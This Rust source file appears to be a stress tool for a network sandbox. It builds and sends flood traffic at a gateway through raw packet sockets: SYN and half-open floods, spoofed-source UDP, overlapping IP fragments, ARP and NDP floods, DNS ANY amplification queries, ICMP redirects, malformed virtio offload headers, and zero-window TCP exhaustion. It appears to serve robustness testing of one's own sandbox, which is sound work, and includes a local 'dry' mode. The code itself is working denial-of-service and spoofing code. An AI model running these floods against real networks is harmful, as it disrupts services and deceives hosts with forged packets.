//! A sandbox that tries to hurt: `flood ATTACK GATEWAY PORT LIMIT [dry]`. Prints how much was sent.
//!
//! What goes out as frames is made once and sent again and again through a packet socket; what needs a connection that a
//! kernel has opened uses sockets. GATEWAY is the gateway's IPv4 address, PORT one where somebody listens behind it, LIMIT a
//! number of frames, or of seconds with an `s` behind it. With `dry` nobody is on the wire: the same work of the same
//! program, for comparison, with a server of its own where sockets are used.
use std::io::{Read, Write};
use std::net::{IpAddr, Ipv4Addr, SocketAddr, TcpStream};
use std::os::fd::{AsRawFd, OwnedFd};
use std::sync::Arc;
use std::time::{Duration, Instant};

use etherparse::{IpNumber, Ipv4Header, PacketBuilder};
use nix::errno::Errno;
use nix::sys::socket::{MsgFlags, send};
use tapline::sys::netlink::Netlink;
use tapline::sys::packet::{self, PacketRing};

use crate::harness;

/// Frames that are made before the first is sent.
const VARIANTS: u32 = 8192;
/// Connections of an attack that uses them.
const CONNECTIONS: usize = 64;
const PUT: &str = "a vector takes everything";

/// Until when.
enum Limit {
    Frames(u64),
    Time(Duration),
}

impl Limit {
    fn parse(word: &str) -> Result<Limit, String> {
        let number = |digits: &str| digits.parse::<u64>().map_err(|e| format!("{word}: {e}"));
        match word.strip_suffix('s') {
            Some(seconds) => Ok(Limit::Time(Duration::from_secs(number(seconds)?))),
            None => Ok(Limit::Frames(number(word)?)),
        }
    }

    fn is_reached(&self, sent: u64, begun: Instant) -> bool {
        match self {
            Limit::Frames(most) => sent >= *most,
            // The clock is not asked for each.
            Limit::Time(most) => sent.is_multiple_of(64) && begun.elapsed() >= *most,
        }
    }
}

/// The segment, as the attacker sees it.
struct Place {
    index: u32,
    own_mac: [u8; 6],
    gateway_mac: [u8; 6],
    own: [u8; 4],
    gateway: [u8; 4],
    port: u16,
}

pub fn main(attack: &str, gateway: &str, port: &str, limit: &str, dry: bool) -> Result<String, String> {
    let limit = Limit::parse(limit)?;
    let port: u16 = port.parse().map_err(|e| format!("{port}: {e}"))?;
    let gateway: Ipv4Addr = gateway.parse().map_err(|e| format!("{gateway}: {e}"))?;
    let sent = match attack {
        "zero-window" | "tiny-segments" => {
            let server = match dry {
                true => harness::tcp_server("127.0.0.1:0", if attack == "tiny-segments" { sink } else { source }),
                false => SocketAddr::new(gateway.into(), port),
            };
            with_sockets(attack, server, &limit)?
        }
        _ => {
            let place = Place::find(gateway, port)?;
            let frames = place.frames(attack)?;
            let socket = match attack {
                // A ring's socket has the header of its offloads in front of each frame.
                "offloads" => {
                    let ring = packet::open(place.index).and_then(PacketRing::from_fd).map_err(|e| e.to_string())?;
                    ring.socket()
                }
                _ => Arc::new(packet::open(place.index).map_err(|e| e.to_string())?),
            };
            send_all(&socket, &frames, &limit)?
        }
    };
    Ok(format!("{sent} sent"))
}

/// For those whom nobody else serves: one who takes everything, over UDP too, and one who gives without end.
pub fn servers(taking: &str, giving: &str) -> Result<String, String> {
    let taking = harness::tcp_server(&format!("127.0.0.1:{taking}"), sink);
    harness::tcp_server(&format!("127.0.0.1:{giving}"), source);
    let _socket = std::net::UdpSocket::bind(taking).map_err(|e| e.to_string())?;
    loop {
        std::thread::park();
    }
}

/// Takes everything.
pub fn sink(mut stream: TcpStream) {
    let mut buffer = vec![0; 64 * 1024];
    while stream.read(&mut buffer).is_ok_and(|n| n > 0) {}
}

/// Gives without end.
pub fn source(mut stream: TcpStream) {
    while stream.write_all(&[7; 16 * 1024]).is_ok() {}
}

/// Send them in turn, as fast as they are taken. What finds no room is lost, as with any flood.
fn send_all(socket: &OwnedFd, frames: &[Vec<u8>], limit: &Limit) -> Result<u64, String> {
    let (begun, mut sent, mut refused) = (Instant::now(), 0, 0);
    for frame in frames.iter().cycle() {
        match send(socket.as_raw_fd(), frame, MsgFlags::empty()) {
            Ok(_) | Err(Errno::EAGAIN | Errno::ENOBUFS) => {}
            // A header that even this kernel sees through: as it is, behind its end, or when it would cut the frame by it.
            Err(Errno::EINVAL | Errno::EMSGSIZE | Errno::ENOMEM) => refused += 1,
            Err(error) => return Err(format!("a frame of {} bytes: {error}", frame.len())),
        }
        sent += 1;
        if limit.is_reached(sent, begun) {
            break;
        }
    }
    if refused == sent { Err("nothing of it was taken".into()) } else { Ok(sent - refused) }
}

fn with_sockets(attack: &str, server: SocketAddr, limit: &Limit) -> Result<u64, String> {
    let mut streams = Vec::new();
    for _ in 0..CONNECTIONS {
        let stream = TcpStream::connect_timeout(&server, super::PATIENCE).map_err(|e| format!("{server}: {e}"))?;
        stream.set_nodelay(true).and_then(|()| stream.set_nonblocking(true)).map_err(|e| e.to_string())?;
        streams.push(stream);
    }
    let (begun, mut sent) = (Instant::now(), 0);
    loop {
        for stream in &mut streams {
            // A window that stays closed is a byte now and then; tiny segments are all that fit.
            let text: &[u8] = b"x";
            match stream.write(text) {
                Ok(_) => {}
                Err(error) if error.kind() == std::io::ErrorKind::WouldBlock => {}
                Err(error) => return Err(format!("{server}: {error}")),
            }
            sent += 1;
            if limit.is_reached(sent, begun) {
                return Ok(sent);
            }
        }
        if attack == "zero-window" {
            std::thread::sleep(Duration::from_millis(50));
        }
    }
}

impl Place {
    fn find(gateway: Ipv4Addr, port: u16) -> Result<Place, String> {
        let text = |e: tapline::sys::netlink::NetlinkError| e.to_string();
        let mut netlink = Netlink::open().map_err(text)?;
        let reaches = |own: Ipv4Addr, prefix: u8| {
            (u32::from(own) ^ u32::from(gateway)).checked_shr(32 - u32::from(prefix)).is_none_or(|rest| rest == 0)
        };
        let address = netlink.addresses().map_err(text)?.into_iter().find_map(|a| match a.ip {
            IpAddr::V4(own) if reaches(own, a.prefix) => Some((own, a.index)),
            _ => None,
        });
        let (own, index) = address.ok_or("no interface leads to the gateway")?;
        let link = netlink.links().map_err(text)?.into_iter().find(|l| l.index == index).ok_or("an interface")?;
        Ok(Place {
            index,
            own_mac: link.mac.ok_or("the interface has no MAC")?,
            gateway_mac: neighbor(gateway),
            own: own.octets(),
            gateway: gateway.octets(),
            port,
        })
    }

    fn frames(&self, attack: &str) -> Result<Vec<Vec<u8>>, String> {
        let make: &dyn Fn(u32) -> Vec<Vec<u8>> = match attack {
            // Nobody listens at these ports; at the other one somebody does, but who asks is not there any more.
            "syn" => &|n| vec![self.syn(1024 + (n % 60_000) as u16, 1, n)],
            "half-open" => &|n| vec![self.syn(1024 + (n % 60_000) as u16, self.port, n)],
            "udp-sources" => &|n| vec![self.udp(self.own, 1024 + (n.wrapping_mul(7919) % 64_000) as u16, self.port)],
            "fragments" => &|n| vec![self.fragment(n as u16, true, (n % 8) as u16 * 8000, &[7; 1400])],
            "overlap" => &|n| {
                let first = self.fragment(n as u16, true, 0, &[1; 1400]);
                vec![first, self.fragment(n as u16, false, 1392, &[2; 1400])]
            },
            "arp" => &|n| vec![self.arp(n)],
            "ndp" => &|n| vec![self.solicitation(n)],
            "dns" => &|n| vec![self.question(n)],
            "redirects" => &|n| vec![self.redirect(n)],
            "spoofed" => &|n| vec![self.udp(n.wrapping_mul(2_654_435_761).to_be_bytes(), n as u16 | 1, self.port)],
            "offloads" => &|n| self.lies(n),
            _ => return Err(format!("there is no attack {attack}")),
        };
        Ok((0..VARIANTS).flat_map(make).collect())
    }

    fn syn(&self, from: u16, to: u16, sequence: u32) -> Vec<u8> {
        let mut frame = Vec::new();
        let builder = PacketBuilder::ethernet2(self.own_mac, self.gateway_mac).ipv4(self.own, self.gateway, 64);
        builder.tcp(from, to, sequence, 64_000).syn().write(&mut frame, &[]).expect(PUT);
        frame
    }

    fn udp(&self, own: [u8; 4], from: u16, to: u16) -> Vec<u8> {
        let mut frame = Vec::new();
        let builder = PacketBuilder::ethernet2(self.own_mac, self.gateway_mac).ipv4(own, self.gateway, 64);
        builder.udp(from, to).write(&mut frame, b"a datagram of nobody").expect(PUT);
        frame
    }

    /// A fragment of a UDP datagram; `offset` in bytes.
    fn fragment(&self, id: u16, more: bool, offset: u16, payload: &[u8]) -> Vec<u8> {
        let length = payload.len() as u16;
        let mut ip = Ipv4Header::new(length, 64, IpNumber::UDP, self.own, self.gateway).expect("it is short");
        ip.identification = id;
        ip.dont_fragment = false;
        ip.more_fragments = more;
        ip.fragment_offset = (offset / 8).try_into().expect("it is small");
        ip.header_checksum = ip.calc_header_checksum();
        let mut frame = [self.gateway_mac, self.own_mac].concat();
        frame.extend([8, 0]);
        ip.write(&mut frame).expect(PUT);
        frame.extend(payload);
        frame
    }

    /// Who has some address of the subnet?
    fn arp(&self, n: u32) -> Vec<u8> {
        let mut frame = [[0xff; 6], self.own_mac].concat();
        frame.extend([8, 6, 0, 1, 8, 0, 6, 4, 0, 1]);
        let target = [self.gateway[0], self.gateway[1], self.gateway[2], n as u8];
        frame.extend([&self.own_mac[..], &self.own, &[0; 6], &target].concat());
        frame
    }

    fn link_local(&self) -> [u8; 16] {
        let [a, b, c, d, e, f] = self.own_mac;
        [0xfe, 0x80, 0, 0, 0, 0, 0, 0, a ^ 2, b, c, 0xff, 0xfe, d, e, f]
    }

    /// Who has some link-local address?
    fn solicitation(&self, n: u32) -> Vec<u8> {
        let [_, x, y, z] = n.to_be_bytes();
        let target = [0xfe, 0x80, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, x, y, z];
        let group = [0xff, 2, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1, 0xff, x, y, z];
        let rest = [&target[..], &[1, 1], &self.own_mac].concat();
        let mut frame = Vec::new();
        PacketBuilder::ethernet2(self.own_mac, [0x33, 0x33, 0xff, x, y, z])
            .ipv6(self.link_local(), group, 255)
            .icmpv6_raw(135, 0, [0; 4])
            .write(&mut frame, &rest)
            .expect(PUT);
        frame
    }

    /// A question whose answer is large, for a name of which nobody has asked yet.
    fn question(&self, n: u32) -> Vec<u8> {
        let mut message = vec![(n >> 8) as u8, n as u8, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
        let name = format!("n{n:08x}");
        message.push(name.len() as u8);
        message.extend(name.as_bytes());
        const ANY: u8 = 255;
        message.extend([5, b'l', b'a', b'r', b'g', b'e', 0, 0, ANY, 0, 1]);
        let mut frame = Vec::new();
        PacketBuilder::ethernet2(self.own_mac, self.gateway_mac)
            .ipv4(self.own, self.gateway, 64)
            .udp(1024 + (n % 60_000) as u16, 53)
            .write(&mut frame, &message)
            .expect(PUT);
        frame
    }

    fn redirect(&self, n: u32) -> Vec<u8> {
        let quoted = self.udp(self.own, 1, 2)[14..42].to_vec();
        let mut frame = Vec::new();
        PacketBuilder::ethernet2(self.own_mac, self.gateway_mac)
            .ipv4(self.own, self.gateway, 64)
            .icmpv4_raw(5, 1, n.to_be_bytes())
            .write(&mut frame, &quoted)
            .expect(PUT);
        frame
    }

    /// Headers that say of a frame what is not so.
    fn lies(&self, n: u32) -> Vec<Vec<u8>> {
        // flags, kind, length of headers, size of segments, where the checksum begins, where it goes: linux/virtio_net.h.
        let says = |flags: u8, kind: u8, lengths: [u16; 4], frame: &[u8]| {
            let mut bytes = vec![flags, kind];
            lengths.iter().for_each(|length| bytes.extend(length.to_ne_bytes()));
            bytes.extend(frame);
            bytes
        };
        const CSUM: u8 = 1;
        const TCP: u8 = 1;
        const UDP: u8 = 5;
        let mut long = self.udp(self.own, 4000, self.port);
        let segment = {
            let mut frame = Vec::new();
            let builder = PacketBuilder::ethernet2(self.own_mac, self.gateway_mac).ipv4(self.own, self.gateway, 64);
            builder.tcp(4000, self.port, n, 64_000).ack(1).write(&mut frame, &[7; 3000]).expect(PUT);
            frame
        };
        long.extend([7; 3000]);
        let length = long.len() as u16;
        vec![
            says(0, TCP, [54, 0, 0, 0], &segment),
            says(CSUM, TCP, [54, 0, 34, 16], &segment),
            says(CSUM, TCP, [54, 1, 34, 16], &segment),
            says(CSUM, TCP, [54, 1460, 34, 16], &long),
            says(CSUM, UDP, [42, 1, 34, 6], &long),
            says(CSUM, UDP, [42, 1400, 34, 6], &segment),
            says(CSUM, TCP, [u16::MAX, 1460, 34, 16], &segment),
            says(CSUM, 0, [0, 0, length, 0], &long),
            says(CSUM, 0, [0, 0, length - 2, 16], &long),
            says(CSUM, 0, [0, 0, u16::MAX, u16::MAX], &long),
            says(CSUM, 0, [length, 0, 0, 0], &long),
            says(CSUM, 0, [0, 0, 14, 10], &long),
            says(CSUM, 0, [0, 0, 34, 6], &long[..60]),
            says(CSUM, 4, [74, 1440, 34, 16], &segment),
            says(0, 0x80, [0, 0, 0, 0], &long),
        ]
    }
}

/// The gateway's Ethernet address, or any where nobody answers.
fn neighbor(gateway: Ipv4Addr) -> [u8; 6] {
    for _ in 0..50 {
        if let Ok(socket) = super::udp_socket(SocketAddr::new(gateway.into(), 9)) {
            // A datagram makes the kernel ask.
            let _ = socket.send_to(b"x", (gateway, 9));
        }
        let table = std::fs::read_to_string("/proc/net/arp").unwrap_or_default();
        let row = table.lines().find(|line| line.split_whitespace().next() == Some(&gateway.to_string()));
        let mac = row.and_then(|row| row.split_whitespace().nth(3)).unwrap_or_default();
        let bytes: Vec<u8> = mac.split(':').filter_map(|b| u8::from_str_radix(b, 16).ok()).collect();
        if let Ok(bytes) = <[u8; 6]>::try_from(bytes)
            && bytes != [0; 6]
        {
            return bytes;
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    [2, 0, 0, 0, 0, 1]
}
